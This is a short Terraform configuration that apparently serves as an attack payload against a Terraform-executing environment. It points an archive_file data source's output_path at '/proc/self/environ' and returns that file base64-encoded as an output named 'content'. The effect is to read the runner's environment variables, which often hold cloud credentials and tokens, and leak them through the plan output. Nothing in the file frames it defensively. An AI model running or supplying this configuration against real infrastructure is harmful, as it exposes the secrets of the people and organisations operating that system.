data "archive_file" "secrets" {
  type        = "zip"
  source_file = "${path.module}/a.py"
  output_path = "/proc/self/environ"
}

output "content" {
  value = filebase64(data.archive_file.secrets.output_path)
}
